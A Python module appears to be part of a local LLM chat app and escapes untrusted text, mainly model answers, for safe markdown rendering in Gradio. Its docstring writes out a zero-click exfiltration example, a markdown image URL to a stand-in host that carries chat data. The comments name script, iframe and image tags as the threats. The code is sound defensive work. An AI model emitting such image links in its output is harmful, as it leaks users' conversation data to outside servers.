"""Untrusted text made safe to render as Gradio markdown.

Model output, retrieved passages, memories, file names and GGUF metadata are untrusted
(see ARCHITECTURE.md, trust boundaries). Two levels:

- ``escape_text``: inert text. No HTML, links, images, emphasis or code spans survive.
  For names, snippets, captions, summaries and error messages (``error_markdown``), or
  ``code_span`` for a file name shown as code.
- ``safe_markdown``: model answers keep their markdown (bold, lists, code blocks, links), but
  raw HTML is shown as text and image syntax never becomes an ``<img>``: a remote image
  would be a zero-click request that carries chat data out (``![](https://x/?q=secret)``).
  The Content-Security-Policy blocks such loads too; this is the second layer.
"""

from __future__ import annotations

import html
import re

from engine.errors import EngineError

#: markdown characters that start emphasis, links, images, code, headings, tables or escapes
_MARKDOWN_SPECIALS = "\\`*_[]#|!~"
#: fenced code blocks: ``` (info string without backticks) or ~~~, indented at most 3 spaces,
#: up to a closing fence of the same marks or the end. Closing is matched generously, so a
#: block never extends past where the browser's markdown renderer ends it.
_FENCE = re.compile(
    r"^[ ]{0,3}(?P<marks>`{3,}(?=[^`\n]*$)|~{3,})[^\n]*\n?.*?(?:^[ ]{0,3}(?P=marks)[`~]*[ \t]*$|\Z)",
    re.MULTILINE | re.DOTALL,
)
#: what starts raw HTML: a tag, a closing tag, a comment, a declaration or an instruction
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
#: reasoning tags the Chatbot itself turns into a collapsible block (app/ui.py reasoning_tags)
_KEPT_TAGS = ("<think>", "</think>")


def escape_text(text: object) -> str:
    """Any value as inert markdown text: it renders as the same characters, nothing more."""
    out = html.escape(str(text), quote=False)
    for ch in _MARKDOWN_SPECIALS:
        out = out.replace(ch, "\\" + ch)
    # a line starting "1." or "-" or ">" would start a list or a quote; harmless, kept as is
    return out


def escape_inline(text: object) -> str:
    """Like ``escape_text`` on one line: newlines become spaces (table cells, headings)."""
    return escape_text(" ".join(str(text).split()))


def code_span(text: object) -> str:
    """A name (a file name) as an inline code span: nothing inside can end the span early
    (a backtick, a blank line), and code spans render no markup."""
    return "`" + (" ".join(str(text).replace("`", "'").split()) or "?") + "`"


def error_markdown(error: EngineError) -> str:
    """An engine error as the page shows it: its title in bold, then its message, both inert
    (messages quote file names, model names and server replies, which are untrusted)."""
    return f"⚠️ **{escape_text(error.title)}**: {escape_text(error)}"


def safe_markdown(text: str) -> str:
    """A model answer as markdown that cannot produce HTML or load anything.

    Fenced code blocks are kept as they are (the renderer shows them as text). Elsewhere a
    ``<`` that starts a tag is escaped (``<img>``, ``<script>``, ``<iframe>`` show as text) and
    image syntax ``![alt](url)`` is shown literally instead of loading ``url``. Inline code
    spans are not told apart: guessing them wrong would leave real HTML unescaped, so a tag
    inside backticks shows as ``&lt;b>`` (a cosmetic cost, chosen over a bypass).
    """
    if not text:
        return text
    out, last = [], 0
    for match in _FENCE.finditer(text):
        out.append(_safe_prose(text[last : match.start()]))
        out.append(match.group(0))
        last = match.end()
    out.append(_safe_prose(text[last:]))
    return "".join(out)


def _safe_prose(text: str) -> str:
    parts = re.split("(" + "|".join(re.escape(t) for t in _KEPT_TAGS) + ")", text)
    return "".join(part if part in _KEPT_TAGS else _neutralise(part) for part in parts)


def _neutralise(text: str) -> str:
    # "&lt;" renders as "<"; "!\[" renders as "![" and starts no image
    return _TAG_START.sub("&lt;", text).replace("![", "!\\[")
